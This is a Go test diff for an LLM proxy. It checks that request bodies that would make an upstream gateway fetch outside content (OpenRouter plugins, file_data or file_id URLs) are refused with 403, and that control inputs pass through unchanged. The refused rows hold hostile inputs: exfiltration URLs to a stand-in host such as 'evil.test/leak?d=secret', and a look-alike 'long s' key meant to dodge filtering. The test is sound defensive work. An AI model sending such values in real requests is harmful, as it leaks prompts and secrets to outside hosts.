@@ -208,3 +208,66 @@ func TestBodyPolicyRefusesNonUTF8(t *testing.T) {
 		}
 	}
 }
+
+// TestGatewayFetchFieldsRefused: an OpenAI-compatible llm_upstream may be a gateway with
+// fetches of its own: OpenRouter's "plugins" (web search sends the prompt to a search
+// engine; file-parser fetches documents) and its PDF input by URL in "file_data"
+// (openrouter.ai/docs, "PDF Inputs"), a LiteLLM-style gateway's URL in "file_id". Each
+// attack row must be refused 403 before the upstream has it whole; controls (inline
+// file_data as a data: URL or bare base64, a real file id, the word "plugins" as text)
+// reach the upstream byte for byte.
+func TestGatewayFetchFieldsRefused(t *testing.T) {
+	var mu sync.Mutex
+	var got []string
+	h := newHarness(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		got = append(got, string(b))
+		mu.Unlock()
+		io.WriteString(w, `{"ok":true}`)
+	}), func(o *Options) { o.LLMRoutes = []string{"POST /chat/completions"} })
+	cert := h.workerCert("w1")
+	c := h.client(&cert)
+	file := func(k, v string) string {
+		return `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"filename":"a.pdf","` + k + `":"` + v + `"}}]}]}`
+	}
+	for _, r := range []struct {
+		name, body string
+		ok         bool
+	}{
+		{"control: file_data data url", file("file_data", "data:application/pdf;base64,JVBERi0x"), true},
+		{"control: file_data bare base64", file("file_data", "JVBERi0xLjQK"), true},
+		{"control: real file id", file("file_id", "file-abc123"), true},
+		{"control: plugins as text", `{"model":"m","messages":[{"role":"user","content":"plugins: [web]"}]}`, true},
+		{"openrouter web plugin", `{"model":"m","plugins":[{"id":"web","max_results":5}],"messages":[]}`, false},
+		{"openrouter file-parser plugin", `{"model":"m","plugins":[{"id":"file-parser","pdf":{"engine":"mistral-ocr"}}],"messages":[]}`, false},
+		{"plugins, long s", `{"model":"m","pluginſ":[{"id":"web"}]}`, false},
+		{"file_data url", file("file_data", "https://evil.test/leak?d=secret"), false},
+		{"file_data scheme-relative", file("file_data", "//evil.test/a.pdf"), false},
+		{"file_id url", file("file_id", "https://evil.test/a.pdf"), false},
+	} {
+		mu.Lock()
+		before := len(got)
+		mu.Unlock()
+		req, _ := http.NewRequest("POST", h.url+"/llm/chat/completions", strings.NewReader(r.body))
+		req.Header.Set("Content-Type", "application/json")
+		resp, err := c.Do(req)
+		if err != nil {
+			t.Fatalf("%s: %v", r.name, err)
+		}
+		b, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		mu.Lock()
+		reached := len(got) > before && got[len(got)-1] == r.body
+		mu.Unlock()
+		if r.ok {
+			if resp.StatusCode != 200 || !reached {
+				t.Errorf("%s: %d %s, upstream got it intact: %v", r.name, resp.StatusCode, capText(string(b), 200), reached)
+			}
+			continue
+		}
+		if resp.StatusCode != 403 || !strings.Contains(string(b), "body_refused") || reached {
+			t.Errorf("%s: %d %s, upstream received the complete body: %v", r.name, resp.StatusCode, capText(string(b), 300), reached)
+		}
+	}
+}
